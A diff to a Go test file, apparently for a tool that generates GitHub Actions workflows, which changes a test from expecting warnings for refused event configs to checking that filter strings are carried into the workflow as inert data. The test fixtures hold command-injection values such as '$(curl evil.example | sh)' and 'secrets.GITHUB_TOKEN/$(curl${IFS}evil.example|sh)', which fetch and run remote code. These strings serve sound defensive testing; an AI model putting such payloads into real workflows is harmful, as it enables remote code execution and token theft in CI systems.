@@ -199,33 +199,15 @@ func walk(n *yaml.Node, path []string, fn func([]string, *yaml.Node)) {
 	}
 }
 
-// TestInjectionWarnings: the event configs GitHub would refuse (an expression under on:, an
-// unknown activity type or key) are left out with a warning, not carried.
-func TestInjectionWarnings(t *testing.T) {
+// TestInjectionConfigCarried: the event configs GitHub carries verbatim (filters holding
+// command substitutions, quotes and newlines) reach the workflow as data (TestInjection checks no
+// run: holds them); the configs it would refuse are errors (TestLostTriggerIsError).
+func TestInjectionConfigCarried(t *testing.T) {
 	_, out := compileDir(t, "testdata/injection")
-	want := []string{
-		`actor "agent": event "issue_comment" is left out of the workflow: types holds "${{ github.event.issue.title }}", but GitHub evaluates no expression under on:`,
-		`actor "agent": event "issues" is left out of the workflow: GitHub has no issues activity type "$(curl evil.example | sh)"`,
-	}
-	for _, w := range want {
-		ok := false
-		for _, d := range out.Warnings {
-			if strings.HasPrefix(d.Message, w) {
-				ok = true
-			}
-		}
-		if !ok {
-			t.Errorf("no warning starting %q; got:\n%s", w, out.Warnings)
-		}
-	}
-	for _, f := range out.Files {
-		if f.Path == WorkflowPath("agent") {
-			if strings.Contains(string(f.Data), "issue_comment:") || strings.Contains(string(f.Data), "\n  issues:") {
-				t.Errorf("a refused event is still in the workflow:\n%s", f.Data)
-			}
-			if !strings.Contains(string(f.Data), "release/$(id)") {
-				t.Errorf("the valid push filter was not carried:\n%s", f.Data)
-			}
+	wf := file(t, out, WorkflowPath("agent"))
+	for _, want := range []string{"release/$(id)", "secrets.GITHUB_TOKEN/$(curl${IFS}evil.example|sh)"} {
+		if !strings.Contains(wf, want) {
+			t.Errorf("the valid filter %q was not carried:\n%s", want, wf)
 		}
 	}
 }
